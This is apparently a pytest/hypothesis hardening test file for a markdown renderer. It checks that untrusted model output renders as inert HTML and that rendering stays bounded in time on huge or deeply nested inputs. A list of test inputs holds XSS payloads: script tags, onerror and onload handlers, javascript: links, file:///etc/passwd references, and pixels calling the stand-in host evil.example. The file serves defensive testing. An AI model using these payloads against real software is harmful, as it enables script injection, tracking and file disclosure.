"""Untrusted model output through `core/render.py`: nothing fetched, nothing executed, no crash,
rendering time bounded.

The renderer's HTML goes to a QTextBrowser, which fetches only what tags and attributes point at
(`<img src>`, `background`, CSS `url()`) and runs no script; so "nothing fetched or executed" is
checked on the HTML itself: only an allow-list of inert tags, no resource-bearing attribute, no
event handler, and every link target is http(s), mailto, our copy scheme, or relative.
"""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bluesdesk.core.render import COPY_SCHEME, render_markdown, render_plain
from tests.hardening.fuzzing import fuzz_share

SAFE_TAGS = {
    "sub",  # math scripts
    "sup",
    "a",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "font",
}
SAFE_ATTRS = {
    "href",
    "style",
    "border",
    "cellspacing",
    "cellpadding",
    "width",
    "align",
    "start",
    "color",
    "title",
    "class",
}
SAFE_SCHEMES = ("http://", "https://", "mailto:", f"{COPY_SCHEME}:")


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name not in SAFE_ATTRS:
                self.problems.append(f"attribute {name}= on <{tag}>")
            if name == "style" and ("url(" in value.lower() or "expression" in value.lower()):
                self.problems.append(f"style with a resource: {value[:60]}")
            if name == "href":
                self.links.append(value)
                lowered = value.strip().lower()
                if ":" in lowered.split("/", 1)[0] and not lowered.startswith(SAFE_SCHEMES):
                    self.problems.append(f"link target {value[:60]}")


def audit(text: str, *, dark: bool = False) -> _Audit:
    rendered = render_markdown(text, dark=dark)
    checker = _Audit()
    checker.feed(rendered.html)
    checker.close()
    assert not checker.problems, checker.problems[:5]
    return checker


def timed(text: str) -> float:
    started = time.perf_counter()
    audit(text)
    return time.perf_counter() - started


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src="http://evil.example/pixel.png" onerror="alert(1)">',
    '<iframe src="file:///etc/passwd"></iframe>',
    "<style>body{background:url(http://evil.example/bg)}</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<table background="http://evil.example/t.png"><tr><td>x</td></tr></table>',
    '<svg onload="alert(1)"></svg> <object data="x.swf"></object> <embed src="x">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<link rel="stylesheet" href="http://evil.example/s.css"><base href="http://evil.example/">',
    "![tracker](http://evil.example/pixel.png?user=me)",
    "![local](file:///etc/passwd) ![data](data:image/png;base64,iVBORw0KGgo=)",
    '![x](http://evil.example/a.png "title") and <img src=x>',
    "[js](javascript:alert(1)) [JS](JaVaScRiPt:alert(1)) [vb](vbscript:msgbox(1))",
    "[file](file:///etc/passwd) [data](data:text/html;base64,PHNjcmlwdD4=)",
    "[spaced](  javascript:alert(1)  ) [entity](&#106;avascript:alert(1))",
    "[ref][r]\n\n[r]: javascript:alert(1)",
    "<http://ok.example> <javascript:alert(1)> <file:///etc/passwd>",
    "`<script>` and ```\n<script>alert(1)</script>\n```",
    "```html\n<img src=http://evil.example/x.png>\n```",
    "$<script>alert(1)</script>$ and $$<img src=x>$$",
    "- [x] <input type=checkbox onclick=alert(1)> done",
    '<input class="task-list-item-checkbox" onclick="alert(1)">',
    "| a | b |\n|---|---|\n| <script>x</script> | ![i](http://evil.example/i.png) |",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_hostile_markup_is_inert(text: str, dark: bool) -> None:
    audit(text, dark=dark)


def test_remote_image_becomes_a_link_and_is_not_loaded() -> None:
    checker = audit("![tracker](http://evil.example/pixel.png)")
    assert checker.links == ["http://evil.example/pixel.png"]  # clickable, never fetched


def test_raw_html_is_shown_as_text() -> None:
    rendered = render_markdown("<b>bold?</b> <script>alert(1)</script>")
    assert "&lt;script&gt;" in rendered.html and "<b>" not in rendered.html


def test_plain_rendering_escapes_everything() -> None:
    out = render_plain('<img src="http://evil.example/x.png">\n<script>1</script>')
    assert "<img" not in out and "<script" not in out and "<br>" in out


markdown_soup = st.lists(
    st.sampled_from(
        [
            "<",
            ">",
            "script",
            "img",
            " src=",
            "href=",
            "javascript:",
            "file:",
            "http://e/",
            "![",
            "](",
            ")",
            "[",
            "]",
            "*",
            "_",
            "`",
            "```",
            "$",
            "|",
            "---",
            "- ",
            "> ",
            "\n",
            "\n\n",
            "&#",
            ";",
            '"',
            "'",
            "on",
            "load=",
            "data:",
            "    ",
            "1. ",
            "[x] ",
            ":",
        ]
    )
    | st.text(max_size=8),
    max_size=60,
).map("".join)


@fuzz_share(0.05)
@given(markdown_soup)
def test_fuzzed_markdown_never_yields_active_content(text: str) -> None:
    audit(text)


# ---- size and depth: no crash, bounded time ------------------------------------------------

# Budgets hold on a loaded 2-core CI runner with room to spare; measured figures are in
# docs/RELIABILITY.md.
QUICK_BUDGET_S = 10.0
SLOW_BUDGET_S = 90.0

QUICK_CASES = {
    "1 MB single line": "x" * 1_000_000,
    "1 MB of words": "word " * 200_000,
    "10,000-row table": "| a | b | c |\n|---|---|---|\n" + "| 1 | **2** | `3` |\n" * 10_000,
    "lists nested 1,000 deep": "".join("  " * i + "- item\n" for i in range(1_000)),
    "ordered lists nested 800 deep": "".join("   " * i + "1. item\n" for i in range(800)),
    "quotes nested 100,000 deep": ">" * 100_000 + " x",
    "list markers 10,000 deep": "- " * 10_000 + "x",
    "emphasis nested 50,000 deep": "*" * 50_000 + "x" + "*" * 50_000,
    "1 MB unknown-language fence": "```zzz\n" + "a" * 1_000_000 + "\n```\n",
    "500 kB inline math": "$" + "a" * 500_000 + "$",
}
SLOW_CASES = {
    "1 MB of emphasis openers": "*a " * 333_333,
    "1 MB of unclosed brackets": "[" * 500_000 + "](" * 100_000,
    "1 MB of backticks": "`a" * 500_000,
    "1 MB python fence (highlighted)": "```python\n"
    + "def f(x):\n    return [x for x in range(10)]  # c\n" * 20_000
    + "```\n",
    "20,000 javascript: links": "[a](javascript:alert(1)) " * 20_000,
}


@pytest.mark.parametrize("name", list(QUICK_CASES))
def test_large_input_renders_in_bounded_time(name: str) -> None:
    assert timed(QUICK_CASES[name]) < QUICK_BUDGET_S


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.parametrize("name", list(SLOW_CASES))
def test_adversarial_megabyte_renders_in_bounded_time(name: str) -> None:
    assert timed(SLOW_CASES[name]) < SLOW_BUDGET_S


def test_table_rows_all_arrive() -> None:
    rendered = render_markdown("| a |\n|---|\n" + "".join(f"| r{i} |\n" for i in range(10_000)))
    assert rendered.html.count("<tr>") == 10_001
    assert "r9999" in rendered.html
